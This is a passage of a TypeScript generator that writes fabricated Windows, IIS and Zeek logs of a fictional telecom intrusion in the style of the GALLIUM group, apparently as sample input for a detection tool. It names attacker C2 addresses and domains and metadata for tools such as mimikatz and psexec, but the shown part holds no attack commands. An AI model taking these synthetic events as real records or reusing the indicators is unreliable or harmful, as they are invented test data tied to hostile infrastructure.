/**
 * Writes examples/soft-cell/: the logs of a fictional telecom operator (Nordtel, domain CORP) during
 * a GALLIUM-style intrusion, buried in ordinary activity. Deterministic: a seeded PRNG drives every
 * choice, so running it twice writes the same bytes.
 *
 *   npx tsc -p . && node dist/scripts/generate-examples.js [--out DIR]
 *
 * Formats written (the ones cellwatch reads): evtx_dump-style JSONL per host and channel, one
 * Winlogbeat NDJSON file, one gzip-compressed JSONL file, IIS W3C logs (u_exYYMMDD.log) and Zeek TSV
 * logs (dns, conn, http, ssl). The story and its times are in examples/soft-cell/README.md.
 */
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { seededRandom as mulberry32 } from './seeded-random.js';
import { LINUX_HOST, linuxWildflyHost, type LinuxHostOutput } from './soft-cell-linux-host.js';

// ---------------------------------------------------------------------------------------------
// Deterministic randomness
// ---------------------------------------------------------------------------------------------
const rand = mulberry32(0x50f7ce11);
const int = (lo: number, hi: number): number => lo + Math.floor(rand() * (hi - lo + 1));
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)]!;
const hex = (n: number): string => {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789ABCDEF'[Math.floor(rand() * 16)];
  return s;
};
const guid = (): string => `{${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}`;

// ---------------------------------------------------------------------------------------------
// Time: the story runs from Monday 2019-03-04 to Thursday 2019-03-07 (UTC)
// ---------------------------------------------------------------------------------------------
const BASE = Date.UTC(2019, 2, 4);
const DAYS = 4;
/** Day index (0 = 2019-03-04) and "HH:MM:SS" → epoch ms. */
function at(day: number, hms: string): number {
  const [h, m, s] = hms.split(':').map(Number);
  return BASE + day * 86400000 + ((h! * 60 + m!) * 60 + (s ?? 0)) * 1000;
}
const isoZ = (t: number): string => new Date(t).toISOString().replace(/\.(\d{3})Z$/, '.$1' + '0000Z');
const utc = (t: number): string => new Date(t).toISOString().replace('T', ' ').replace('Z', '');

// ---------------------------------------------------------------------------------------------
// The estate
// ---------------------------------------------------------------------------------------------
const DOMAIN = 'CORP';
const FQDN = 'corp.nordtel.example';
const DOMAIN_SID = 'S-1-5-21-2293847110-3987142065-1780024693';
interface Host {
  name: string;
  ip: string;
  sysmon: boolean;
  /** Security 4688 process auditing with command lines (DC01 has no Sysmon). */
  audit4688: boolean;
}
const H = {
  web: { name: 'WEB-IIS01', ip: '172.16.10.11', sysmon: true, audit4688: false },
  jboss: { name: 'APP-JBOSS02', ip: '172.16.10.12', sysmon: true, audit4688: false },
  dc: { name: 'DC01', ip: '10.20.0.10', sysmon: false, audit4688: true },
  cdr: { name: 'CDR-DB01', ip: '10.20.2.21', sysmon: true, audit4688: false },
  fs: { name: 'FS01', ip: '10.20.3.5', sysmon: false, audit4688: false },
  ws1: { name: 'WS-0142', ip: '10.30.1.42', sysmon: false, audit4688: false },
  ws2: { name: 'WS-0177', ip: '10.30.1.77', sysmon: true, audit4688: false },
} satisfies Record<string, Host>;
const ALL_HOSTS: Host[] = Object.values(H);
const fq = (h: Host): string => `${h.name}.${FQDN}`;

const PUBLIC_WEB_IP = '203.0.113.10';
const SCANNER_IP = '198.51.100.23';
/** Operator addresses: two from the GALLIUM pack (Unit 42 PingPull infrastructure), one VPS. */
const OPERATOR_IP = '2.58.242.230';
const C2_IP = '2.58.242.231';
const STAGING_HTTP_IP = '198.51.100.77';
const DDNS_C2 = 'rosaf112.ddns.net';
const PINGPULL_C2 = 'v2.hinitial.com';
const SOFTETHER_DDNS = 'vpn729380678.softether.net';

interface Account {
  name: string;
  sid: string;
  domain: string;
}
const SYSTEM: Account = { name: 'SYSTEM', sid: 'S-1-5-18', domain: 'NT AUTHORITY' };
const acct = (name: string, rid: number): Account => ({ name, sid: `${DOMAIN_SID}-${rid}`, domain: DOMAIN });
const USERS = {
  alice: acct('a.lindqvist', 1107),
  bjorn: acct('b.haugen', 1112),
  carla: acct('c.moreau', 1131),
  dmitri: acct('d.volkov', 1140),
  admin: acct('adm.eriksen', 1203),
  sqlsvc: acct('svc_sqlbackup', 1310),
  jboss: acct('svc_jboss', 1311),
  hdadmin: acct('hdadmin', 1422),
};
const WORKERS = [USERS.alice, USERS.bjorn, USERS.carla, USERS.dmitri];

// ---------------------------------------------------------------------------------------------
// Windows records in evtx_dump JSON shape
// ---------------------------------------------------------------------------------------------
type Data = Record<string, string | number | boolean | null>;
interface WinRecord {
  t: number;
  host: Host;
  channel: string;
  provider: { Name: string; Guid?: string; EventSourceName?: string };
  eventId: number;
  qualifiers?: number;
  version: number;
  level: number;
  task: number;
  keywords: string;
  userId: string | null;
  pid: number;
  data: Data;
  /** Write this record in Winlogbeat shape instead (one workstation). */
  winlogbeat?: boolean;
}
const records: WinRecord[] = [];

const SYSMON_CH = 'Microsoft-Windows-Sysmon/Operational';
const SYSMON_PROV = { Name: 'Microsoft-Windows-Sysmon', Guid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}' };
const SEC_PROV = { Name: 'Microsoft-Windows-Security-Auditing', Guid: '{54849625-5478-4994-A5BA-3E3B0328C30D}' };
const SCM_PROV = { Name: 'Service Control Manager', Guid: '{555908d1-a6d7-4695-8e1e-26931d2012f4}', EventSourceName: 'Service Control Manager' };
const PS_PROV = { Name: 'Microsoft-Windows-PowerShell', Guid: '{A0C1853B-5C40-4B15-8766-3CF1C58F985A}' };
const SYSMON_TASK: Record<number, number> = { 1: 1, 2: 2, 3: 3, 7: 7, 10: 10, 11: 11, 13: 13, 17: 17, 18: 18, 22: 22 };
const SYSMON_VER: Record<number, number> = { 1: 5, 2: 5, 3: 5, 7: 3, 10: 3, 11: 2, 13: 2, 17: 1, 18: 1, 22: 5 };

function sysmon(host: Host, t: number, eventId: number, data: Data): void {
  records.push({
    t, host, channel: SYSMON_CH, provider: SYSMON_PROV, eventId, version: SYSMON_VER[eventId] ?? 1, level: 4,
    task: SYSMON_TASK[eventId] ?? 0, keywords: '0x8000000000000000', userId: 'S-1-5-18', pid: 2284,
    data: { RuleName: '-', UtcTime: utc(t), ...data },
  });
}
function security(host: Host, t: number, eventId: number, data: Data, failure = false): void {
  records.push({
    t, host, channel: 'Security', provider: SEC_PROV, eventId, version: eventId === 4624 ? 2 : 0, level: 0,
    task: SEC_TASK[eventId] ?? 0, keywords: failure ? '0x8010000000000000' : '0x8020000000000000', userId: null, pid: 640,
    data,
  });
}
const SEC_TASK: Record<number, number> = { 4624: 12544, 4625: 12544, 4634: 12545, 4648: 12544, 4662: 14080, 4672: 12548, 4688: 13312, 4697: 12289, 4698: 12804, 4720: 13824, 4728: 13826, 4732: 13826, 4776: 14336, 5145: 12811 };
function system(host: Host, t: number, eventId: number, data: Data): void {
  records.push({
    t, host, channel: 'System', provider: SCM_PROV, eventId, qualifiers: 16384, version: 0, level: 4,
    task: 0, keywords: eventId === 7045 ? '0x8080000000000000' : '0x8080000000000000', userId: eventId === 7045 ? 'S-1-5-18' : null, pid: 612,
    data,
  });
}
function powershell(host: Host, t: number, text: string, scriptPath: string): void {
  records.push({
    t, host, channel: 'Microsoft-Windows-PowerShell/Operational', provider: PS_PROV, eventId: 4104, version: 1, level: 5,
    task: 2, keywords: '0x0', userId: 'S-1-5-18', pid: 3012,
    data: { MessageNumber: 1, MessageTotal: 1, ScriptBlockText: text, ScriptBlockId: guid().slice(1, -1).toLowerCase(), Path: scriptPath },
  });
}

// ---------------------------------------------------------------------------------------------
// Processes (Sysmon 1, or Security 4688 where Sysmon is absent)
// ---------------------------------------------------------------------------------------------
interface PeInfo {
  desc: string;
  product: string;
  company: string;
  ofn: string;
  version: string;
}
const PE: Record<string, PeInfo> = {
  cmd: { desc: 'Windows Command Processor', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', ofn: 'Cmd.Exe', version: '10.0.14393.0 (rs1_release.160715-1616)' },
  powershell: { desc: 'Windows PowerShell', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', ofn: 'PowerShell.EXE', version: '10.0.14393.206 (rs1_release.160915-0644)' },
  whoami: { desc: 'whoami - displays logged on user information', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', ofn: 'whoami.exe', version: '10.0.14393.0' },
  ipconfig: { desc: 'IP Configuration Utility', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', ofn: 'ipconfig.exe', version: '10.0.14393.0' },
  netstat: { desc: 'TCP/IP Netstat Command', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', ofn: 'netstat.exe', version: '10.0.14393.0' },
  net: { desc: 'Net Command', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', ofn: 'net.exe', version: '10.0.14393.0' },
  net1: { desc: 'Net Command', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', ofn: 'net1.exe', version: '10.0.14393.0' },
  quser: { desc: 'Query User Utility', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', ofn: 'quser.exe', version: '10.0.14393.0' },
  systeminfo: { desc: 'Displays system information', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', ofn: 'sysinfo.exe', version: '10.0.14393.0' },
  tasklist: { desc: 'Lists the current running tasks', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', ofn: 'tasklist.exe', version: '10.0.14393.0' },
  hostname: { desc: 'Hostname APP', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', ofn: 'hostname.exe', version: '10.0.14393.0' },
  reg: { desc: 'Registry Console Tool', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', ofn: 'reg.exe', version: '10.0.14393.0' },
  sc: { desc: 'Service Control Manager Configuration Tool', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', ofn: 'sc.exe', version: '10.0.14393.0' },
  schtasks: { desc: 'Task Scheduler Configuration Tool', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', ofn: 'schtasks.exe', version: '10.0.14393.0' },
  certutil: { desc: 'CertUtil.exe', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', ofn: 'CertUtil.exe', version: '10.0.14393.0' },
  netsh: { desc: 'Network Command Shell', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', ofn: 'netsh.exe', version: '10.0.14393.0' },
  wmic: { desc: 'WMI Commandline Utility', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', ofn: 'wmic.exe', version: '10.0.14393.0' },
  bcp: { desc: 'BCP - Bulk Copy Program', product: 'Microsoft SQL Server', company: 'Microsoft Corporation', ofn: 'BCP.exe', version: '2015.0130.1601.05' },
  procdump: { desc: 'Sysinternals process dump utility', product: 'ProcDump', company: 'Sysinternals - www.sysinternals.com', ofn: 'procdump', version: '9.0' },
  mimikatz: { desc: 'mimikatz for Windows', product: 'mimikatz', company: 'gentilkiwi (Benjamin DELPY)', ofn: 'mimikatz.exe', version: '2.1.1.0' },
  psexec: { desc: 'Execute processes remotely', product: 'Sysinternals PsExec', company: 'Sysinternals - www.sysinternals.com', ofn: 'psexec.c', version: '2.2' },
  rar: { desc: 'Command line RAR', product: 'WinRAR', company: 'Alexander Roshal', ofn: 'Rar.exe', version: '5.61.0' },
  vpnbridge: { desc: 'SoftEther VPN Bridge', product: 'SoftEther VPN', company: 'SoftEther Corporation', ofn: 'vpnbridge.exe', version: '4.29.9680' },
  none: { desc: '?', product: '?', company: '?', ofn: '?', version: '?' },
  chrome: { desc: 'Google Chrome', product: 'Google Chrome', company: 'Google LLC', ofn: 'chrome.exe', version: '72.0.3626.121' },
  outlook: { desc: 'Microsoft Outlook', product: 'Microsoft Outlook', company: 'Microsoft Corporation', ofn: 'Outlook.exe', version: '16.0.11328.20158' },
  excel: { desc: 'Microsoft Excel', product: 'Microsoft Office', company: 'Microsoft Corporation', ofn: 'Excel.exe', version: '16.0.11328.20158' },
  svchost: { desc: 'Host Process for Windows Services', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', ofn: 'svchost.exe', version: '10.0.14393.0' },
  generic: { desc: 'Windows component', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', ofn: '', version: '10.0.14393.0' },
  defender: { desc: 'Antimalware Service Executable', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', ofn: 'MsMpEng.exe', version: '4.18.1902.2' },
  sqlservr: { desc: 'SQL Server Windows NT - 64 Bit', product: 'Microsoft SQL Server', company: 'Microsoft Corporation', ofn: 'sqlservr.exe', version: '2015.0130.5026.00' },
};

interface Proc {
  host: Host;
  guid: string;
  pid: number;
  image: string;
  cmd: string;
  user: string;
  account: Account;
  logonId: string;
}
const LOGON_IDS = new Map<string, string>();
function logonIdOf(host: Host, a: Account): string {
  const k = `${host.name}/${a.name}`;
  if (a === SYSTEM) return '0x3e7';
  let v = LOGON_IDS.get(k);
  if (!v) {
    v = `0x${(0x100000 + int(0, 0xeffffff)).toString(16)}`;
    LOGON_IDS.set(k, v);
  }
  return v;
}
const userText = (a: Account): string => (a.domain === 'NT AUTHORITY' ? `NT AUTHORITY\\${a.name}` : a.domain.startsWith('IIS') ? `${a.domain}\\${a.name}` : `${DOMAIN}\\${a.name}`);

/** A long-running process that exists before the window (services, w3wp, java). */
function existing(host: Host, image: string, cmd: string, account: Account, pid?: number): Proc {
  return { host, guid: guid(), pid: pid ?? int(600, 9000), image, cmd, user: userText(account), account, logonId: logonIdOf(host, account) };
}

function sha(n: number): string {
  return hex(n);
}

/** Start a process: Sysmon 1 where the host runs Sysmon, Security 4688 where it audits process creation. */
function spawn(t: number, parent: Proc, image: string, cmd: string, opts: { pe?: PeInfo; account?: Account; cwd?: string; integrity?: string } = {}): Proc {
  const host = parent.host;
  const account = opts.account ?? parent.account;
  const pe = opts.pe ?? PE.generic!;
  const p: Proc = { host, guid: guid(), pid: int(1000, 9900), image, cmd, user: userText(account), account, logonId: logonIdOf(host, account) };
  if (host.sysmon) {
    sysmon(host, t, 1, {
      ProcessGuid: p.guid, ProcessId: p.pid, Image: image, FileVersion: pe.version, Description: pe.desc, Product: pe.product,
      Company: pe.company, OriginalFileName: pe.ofn || path.win32.basename(image), CommandLine: cmd,
      CurrentDirectory: opts.cwd ?? 'C:\\Windows\\system32\\', User: p.user, LogonGuid: guid(), LogonId: p.logonId,
      TerminalSessionId: account === SYSTEM || account.domain.startsWith('IIS') ? 0 : 1,
      IntegrityLevel: opts.integrity ?? (account === SYSTEM ? 'System' : 'High'),
      Hashes: `SHA1=${sha(40)},MD5=${sha(32)},SHA256=${sha(64)},IMPHASH=${sha(32)}`,
      ParentProcessGuid: parent.guid, ParentProcessId: parent.pid, ParentImage: parent.image, ParentCommandLine: parent.cmd,
      ParentUser: parent.user,
    });
  }
  if (host.audit4688) {
    security(host, t, 4688, {
      SubjectUserSid: account.sid, SubjectUserName: account === SYSTEM ? `${host.name}$` : account.name,
      SubjectDomainName: account === SYSTEM ? DOMAIN : account.domain, SubjectLogonId: p.logonId,
      NewProcessId: `0x${p.pid.toString(16)}`, NewProcessName: image, TokenElevationType: '%%1936', ProcessId: `0x${parent.pid.toString(16)}`,
      CommandLine: cmd, TargetUserSid: 'S-1-0-0', TargetUserName: '-', TargetDomainName: '-', TargetLogonId: '0x0',
      ParentProcessName: parent.image, MandatoryLabel: account === SYSTEM ? 'S-1-16-16384' : 'S-1-16-12288',
    });
  }
  return p;
}

function fileCreate(t: number, p: Proc, target: string): void {
  if (!p.host.sysmon) return;
  sysmon(p.host, t, 11, { ProcessGuid: p.guid, ProcessId: p.pid, Image: p.image, TargetFilename: target, CreationUtcTime: utc(t), User: p.user });
}
function netConn(t: number, p: Proc, o: { proto?: string; initiated: boolean; src: string; sport: number; dst: string; dport: number; dstName?: string }): void {
  if (!p.host.sysmon) return;
  sysmon(p.host, t, 3, {
    ProcessGuid: p.guid, ProcessId: p.pid, Image: p.image, User: p.user, Protocol: o.proto ?? 'tcp', Initiated: o.initiated,
    SourceIsIpv6: false, SourceIp: o.src, SourceHostname: o.initiated ? fq(p.host) : '-', SourcePort: o.sport, SourcePortName: '-',
    DestinationIsIpv6: false, DestinationIp: o.dst, DestinationHostname: o.dstName ?? '-', DestinationPort: o.dport,
    DestinationPortName: o.dport === 137 ? 'netbios-ns' : o.dport === 443 ? 'https' : o.dport === 445 ? 'microsoft-ds' : '-',
  });
}
function dnsQuery(t: number, p: Proc, name: string, answer: string): void {
  if (!p.host.sysmon) return;
  sysmon(p.host, t, 22, { ProcessGuid: p.guid, ProcessId: p.pid, QueryName: name, QueryStatus: '0', QueryResults: `::ffff:${answer};`, Image: p.image, User: p.user });
}
function lsassAccess(t: number, p: Proc, lsass: Proc, access: string, trace: string): void {
  sysmon(p.host, t, 10, {
    SourceProcessGUID: p.guid, SourceProcessId: p.pid, SourceThreadId: int(1000, 9000), SourceImage: p.image,
    TargetProcessGUID: lsass.guid, TargetProcessId: lsass.pid, TargetImage: lsass.image, GrantedAccess: access, CallTrace: trace,
    SourceUser: p.user, TargetUser: 'NT AUTHORITY\\SYSTEM',
  });
}
function imageLoad(t: number, p: Proc, dll: string, pe: PeInfo, signed: boolean, signature: string, status: string): void {
  sysmon(p.host, t, 7, {
    ProcessGuid: p.guid, ProcessId: p.pid, Image: p.image, ImageLoaded: dll, FileVersion: pe.version, Description: pe.desc,
    Product: pe.product, Company: pe.company, OriginalFileName: pe.ofn, Hashes: `SHA1=${sha(40)},MD5=${sha(32)},SHA256=${sha(64)},IMPHASH=${sha(32)}`,
    Signed: signed, Signature: signature, SignatureStatus: status, User: p.user,
  });
}
function regSet(t: number, p: Proc, key: string, details: string): void {
  sysmon(p.host, t, 13, { EventType: 'SetValue', ProcessGuid: p.guid, ProcessId: p.pid, Image: p.image, TargetObject: key, Details: details, User: p.user });
}
function pipe(t: number, p: Proc, eventId: 17 | 18, name: string): void {
  sysmon(p.host, t, eventId, { EventType: eventId === 17 ? 'CreatePipe' : 'ConnectPipe', ProcessGuid: p.guid, ProcessId: p.pid, PipeName: name, Image: p.image, User: p.user });
}

function logon(host: Host, t: number, a: Account, type: number, o: { ip?: string; workstation?: string; pkg?: string; proc?: string; logonProc?: string } = {}): void {
  const pkg = o.pkg ?? (type === 3 ? 'Kerberos' : 'Negotiate');
  security(host, t, 4624, {
    SubjectUserSid: type === 3 ? 'S-1-0-0' : 'S-1-5-18', SubjectUserName: type === 3 ? '-' : `${host.name}$`, SubjectDomainName: type === 3 ? '-' : DOMAIN,
    SubjectLogonId: type === 3 ? '0x0' : '0x3e7', TargetUserSid: a.sid, TargetUserName: a.name, TargetDomainName: a.domain,
    TargetLogonId: `0x${int(0x100000, 0xfffffff).toString(16)}`, LogonType: type,
    LogonProcessName: o.logonProc ?? (pkg === 'NTLM' ? 'NtLmSsp ' : type === 3 ? 'Kerberos' : 'User32 '), AuthenticationPackageName: pkg,
    WorkstationName: o.workstation ?? '-', LogonGuid: guid(), TransmittedServices: '-', LmPackageName: pkg === 'NTLM' ? 'NTLM V2' : '-',
    KeyLength: pkg === 'NTLM' ? 128 : 0, ProcessId: type === 3 ? '0x0' : '0x2a4', ProcessName: o.proc ?? (type === 3 ? '-' : 'C:\\Windows\\System32\\winlogon.exe'),
    IpAddress: o.ip ?? (type === 3 ? '-' : '127.0.0.1'), IpPort: type === 3 ? int(49152, 65000) : 0, ImpersonationLevel: '%%1833',
    RestrictedAdminMode: '-', TargetOutboundUserName: '-', TargetOutboundDomainName: '-', VirtualAccount: '%%1843',
    TargetLinkedLogonId: '0x0', ElevatedToken: '%%1842',
  });
}

function service7045(host: Host, t: number, name: string, image: string, start = 'demand start', account = 'LocalSystem'): void {
  system(host, t, 7045, { ServiceName: name, ImagePath: image, ServiceType: 'user mode service', StartType: start, AccountName: account });
}

// ---------------------------------------------------------------------------------------------
// W3C and Zeek lines
// ---------------------------------------------------------------------------------------------
interface W3c {
  t: number;
  method: string;
  stem: string;
  query: string;
  user: string;
  cip: string;
  ua: string;
  referer: string;
  status: number;
  bytes: number;
  csBytes: number;
  taken: number;
}
const w3c: W3c[] = [];
function web(t: number, o: Partial<W3c> & { stem: string; cip: string }): void {
  w3c.push({ t, method: 'GET', query: '-', user: '-', ua: UA.win10, referer: '-', status: 200, bytes: int(2000, 40000), csBytes: int(300, 900), taken: int(15, 400), ...o });
}
const UA = {
  win10: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/72.0.3626.121 Safari/537.36',
  mac: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/12.0.3 Safari/605.1.15',
  iphone: 'Mozilla/5.0 (iPhone; CPU iPhone OS 12_1_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/12.0 Mobile/15E148 Safari/604.1',
  chopper: 'Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)',
  scanner: 'Mozilla/5.0 zgrab/0.x',
  nikto: 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)',
  monitor: 'Nordtel-HealthProbe/1.4',
};

interface ZeekLine {
  t: number;
  cols: (string | number)[];
}
const zeek: Record<'dns' | 'conn' | 'http' | 'ssl', ZeekLine[]> = { dns: [], conn: [], http: [], ssl: [] };
const uid = (): string => 'C' + Array.from({ length: 17 }, () => 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'[Math.floor(rand() * 62)]).join('');
const zts = (t: number): string => (t / 1000).toFixed(6);
function zdns(t: number, client: string, query: string, answers: string[], qtype = 'A'): void {
  const id = uid();
  zeek.dns.push({ t, cols: [zts(t), id, client, int(49152, 65000), '10.20.0.10', 53, 'udp', int(1, 65000), (rand() * 0.05).toFixed(6), query, 1, 'C_INTERNET', qtype === 'A' ? 1 : 28, qtype, 0, 'NOERROR', 'F', 'F', 'T', 'T', 0, answers.length ? answers.join(',') : '-', answers.length ? answers.map(() => '300.000000').join(',') : '-', 'F'] });
}
interface Tls {
  sni: string;
  subject: string;
  issuer: string;
  status: string;
}
/** Certificates of the benign services the hosts talk to (validated by Zeek: status ok). */
const BENIGN_CERTS: Array<Omit<Tls, 'sni' | 'status'>> = [
  { subject: 'CN=www.microsoft.com,OU=Microsoft Corporation,O=Microsoft Corporation,L=Redmond,ST=WA,C=US', issuer: 'CN=Microsoft IT TLS CA 4,OU=Microsoft IT,O=Microsoft Corporation,L=Redmond,ST=Washington,C=US' },
  { subject: 'CN=*.google.com,O=Google LLC,L=Mountain View,ST=California,C=US', issuer: 'CN=Google Internet Authority G3,O=Google Trust Services,C=US' },
  { subject: 'CN=outlook.com,O=Microsoft Corporation,L=Redmond,ST=Washington,C=US', issuer: 'CN=DigiCert Cloud Services CA-1,O=DigiCert Inc,C=US' },
];
function zconn(t: number, o: { src: string; sport?: number; dst: string; dport: number; proto?: string; service?: string; dur?: number; ob?: number; rb?: number; state?: string; tls?: Tls; sni?: string }): void {
  const proto = o.proto ?? 'tcp';
  const ob = o.ob ?? int(200, 3000);
  const rb = o.rb ?? int(500, 60000);
  const id = uid();
  if (o.service === 'ssl') {
    const tls = o.tls ?? { sni: o.sni ?? '-', status: 'ok', ...pick(BENIGN_CERTS) };
    zeek.ssl.push({ t, cols: [zts(t), id, o.src, o.sport ?? int(49152, 65000), o.dst, o.dport, 'TLSv12', 'TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384', 'secp256r1', tls.sni, 'F', '-', o.dport === 443 ? 'h2' : '-', 'T', 'CsxknGIi', sha(64).toLowerCase(), '(empty)', tls.subject, tls.issuer, tls.status] });
  }
  zeek.conn.push({ t, cols: [zts(t), id, o.src, o.sport ?? int(49152, 65000), o.dst, o.dport, proto, o.service ?? '-', (o.dur ?? rand() * 3).toFixed(6), ob, rb, o.state ?? (proto === 'tcp' ? 'SF' : 'OTH'), 'T', 'F', 0, proto === 'tcp' ? 'ShADadFf' : '-', Math.max(1, Math.ceil(ob / 512)), ob + 40, Math.max(1, Math.ceil(rb / 1200)), rb + 40, '-'] });
}
function zhttp(t: number, o: { src: string; dst: string; dport?: number; method: string; host: string; uri: string; ua: string; status: number; reqLen?: number; respLen?: number }): void {
  zeek.http.push({ t, cols: [zts(t), uid(), o.src, int(49152, 65000), o.dst, o.dport ?? 80, 1, o.method, o.host, o.uri, '-', '1.1', o.ua, '-', o.reqLen ?? 0, o.respLen ?? int(300, 20000), o.status, o.status === 200 ? 'OK' : o.status === 404 ? 'Not Found' : 'OK', '-', '-', '(empty)', '-', '-', '-', '-', '-', '-', '-', '-', '-'] });
}

// ---------------------------------------------------------------------------------------------
// Benign background
// ---------------------------------------------------------------------------------------------
const SITE_PAGES = ['/', '/default.aspx', '/en/mobile-plans.aspx', '/en/roaming.aspx', '/en/support/faq.aspx', '/en/coverage-map.aspx', '/en/business.aspx', '/en/contact.aspx', '/myaccount/login.aspx'];
const SITE_STATIC = ['/css/site.min.css', '/js/site.bundle.js', '/js/jquery-3.3.1.min.js', '/images/logo.svg', '/images/hero-5g.jpg', '/fonts/nordtel-sans.woff2', '/favicon.ico'];
const PUBLIC_CLIENTS = Array.from({ length: 60 }, (_, i) => `${pick(['81.2', '85.166', '77.40', '95.85', '188.95', '46.9'])}.${int(1, 254)}.${(i * 7) % 250 + 1}`);
const SITE_CUSTOMERS = ['jonas.k', 'mari.o', 'peter.s', 'anna.l', 'erik.t', 'lena.b'];

function backgroundWeb(): void {
  for (let d = 0; d < DAYS; d++) {
    const visits = 150 + int(0, 40);
    for (let i = 0; i < visits; i++) {
      const hour = rand() < 0.8 ? int(6, 21) : int(0, 23);
      let t = at(d, `${hour}:${int(0, 59)}:${int(0, 59)}`);
      const cip = pick(PUBLIC_CLIENTS);
      const ua = pick([UA.win10, UA.win10, UA.mac, UA.iphone]);
      const page = pick(SITE_PAGES);
      web(t, { stem: page, cip, ua, bytes: int(8000, 60000) });
      const n = int(1, 3);
      for (let k = 0; k < n; k++) {
        t += int(100, 900);
        web(t, { stem: pick(SITE_STATIC), cip, ua, referer: `https://www.nordtel.example${page}`, bytes: int(1500, 250000), taken: int(0, 30) });
      }
      if (page === '/myaccount/login.aspx' && rand() < 0.7) {
        t += int(4000, 20000);
        const ok = rand() < 0.85;
        web(t, { method: 'POST', stem: '/myaccount/login.aspx', cip, ua, status: ok ? 302 : 200, bytes: int(400, 9000), csBytes: int(600, 1200) });
        if (ok) web(t + int(200, 600), { stem: '/myaccount/overview.aspx', cip, ua, user: pick(SITE_CUSTOMERS), bytes: int(9000, 30000) });
      }
      if (rand() < 0.03) web(t + int(1000, 5000), { stem: pick(['/en/old-offers.aspx', '/apple-touch-icon.png', '/robots.txt', '/wp-login.php']), cip, ua, status: 404, bytes: 1245 });
    }
    // Health probe from the load balancer every 5 minutes.
    for (let m = 0; m < 24 * 60; m += 5) web(at(d, `${Math.floor(m / 60)}:${m % 60}:07`), { stem: '/health.aspx', cip: '172.16.10.2', ua: UA.monitor, bytes: 312, taken: int(1, 6) });
  }
}

const BENIGN_DOMAINS = ['www.microsoft.com', 'login.microsoftonline.com', 'outlook.office365.com', 'ctldl.windowsupdate.com', 'settings-win.data.microsoft.com', 'www.google.com', 'clients2.google.com', 'update.googleapis.com', 'www.nordtel.example', 'intranet.corp.nordtel.example', 'teams.microsoft.com', 'wpad.corp.nordtel.example', 'time.windows.com', 'ocsp.digicert.com'];

function backgroundHosts(): void {
  const services: Record<string, Proc> = {};
  for (const h of ALL_HOSTS) services[h.name] = existing(h, 'C:\\Windows\\System32\\services.exe', 'C:\\Windows\\system32\\services.exe', SYSTEM, 612);
  for (let d = 0; d < DAYS; d++) {
    for (const h of ALL_HOSTS) {
      const svc = services[h.name]!;
      const isWs = h === H.ws1 || h === H.ws2;
      // Morning logon for workstations, service logons for servers.
      if (isWs) {
        const u = h === H.ws1 ? USERS.alice : USERS.bjorn;
        const t0 = at(d, `07:${int(30, 59)}:${int(0, 59)}`);
        const wl = existing(h, 'C:\\Windows\\System32\\winlogon.exe', 'winlogon.exe', SYSTEM, 588);
        logon(h, t0, u, 2, { workstation: h.name, proc: 'C:\\Windows\\System32\\winlogon.exe' });
        logon(H.dc, t0 + 120, u, 3, { ip: h.ip, workstation: h.name });
        const explorer = spawn(t0 + 4000, wl, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', { account: u, integrity: 'Medium' });
        const chrome = spawn(t0 + int(20000, 90000), explorer, 'C:\\Program Files (x86)\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files (x86)\\Google\\Chrome\\Application\\chrome.exe"', { account: u, pe: PE.chrome, integrity: 'Medium', cwd: 'C:\\Program Files (x86)\\Google\\Chrome\\Application\\' });
        const outlook = spawn(t0 + int(10000, 60000), explorer, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"', { account: u, pe: PE.outlook, integrity: 'Medium' });
        for (let k = 0; k < 14; k++) {
          const t = t0 + int(60000, 9 * 3600000);
          const name = pick(BENIGN_DOMAINS);
          const ans = name.endsWith(FQDN) ? '10.20.0.15' : `13.107.${int(1, 250)}.${int(1, 250)}`;
          dnsQuery(t, pick([chrome, outlook]), name, ans);
          netConn(t + 40, chrome, { initiated: true, src: h.ip, sport: int(49152, 65000), dst: ans, dport: 443, dstName: name });
          zdns(t, h.ip, name, [ans]);
          zconn(t + 40, { src: h.ip, dst: ans, dport: 443, service: 'ssl', sni: name, dur: rand() * 60, ob: int(800, 4000), rb: int(4000, 400000) });
        }
